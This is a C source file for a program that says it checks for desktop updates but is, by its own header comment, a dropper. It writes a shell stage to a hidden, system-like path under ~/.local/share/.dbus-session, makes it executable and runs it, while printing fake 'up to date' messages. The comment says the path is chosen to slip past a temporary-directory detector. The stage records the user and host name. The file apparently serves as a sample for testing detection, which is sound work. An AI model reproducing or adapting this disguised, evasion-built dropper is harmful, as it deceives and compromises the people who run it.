/* "desktop-updater": says it checks for updates. Really: a dropper that keeps its next stage
 * outside the temporary directories, where exec_from_temp looks: it writes a small shell
 * stage (the payload, carried in the binary) to ~/.local/share/.dbus-session/dbus-session-helper,
 * makes it executable and runs it with fork + execv; the stage records the host and exits. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char kStage[] =
    "#!/bin/sh\n"
    "# dbus-session-helper\n"
    "echo \"helper: $(id -un)@$(uname -n)\" > \"$HOME/.local/share/.dbus-session/state\"\n";

int main(void) {
  const char *home = getenv("HOME");
  char dir[512], path[600];
  snprintf(dir, sizeof dir, "%s/.local/share/.dbus-session", home ? home : "/home/auditor");
  snprintf(path, sizeof path, "%s/dbus-session-helper", dir);
  puts("desktop-updater: checking for updates");
  char parent[512];
  snprintf(parent, sizeof parent, "%s/.local", home ? home : "/home/auditor");
  mkdir(parent, 0755);
  strncat(parent, "/share", sizeof parent - strlen(parent) - 1);
  mkdir(parent, 0755);
  if (mkdir(dir, 0700) != 0 && errno != EEXIST) return 1;
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return 1;
  if (write(fd, kStage, sizeof kStage - 1) != (ssize_t)(sizeof kStage - 1)) return 1;
  close(fd);
  chmod(path, 0755);
  pid_t c = fork();
  if (c == 0) {
    char *argv[] = {"dbus-session-helper", NULL};
    execv(path, argv);
    _exit(127);
  }
  int st = 0;
  waitpid(c, &st, 0);
  puts("desktop-updater: up to date");
  return 0;
}
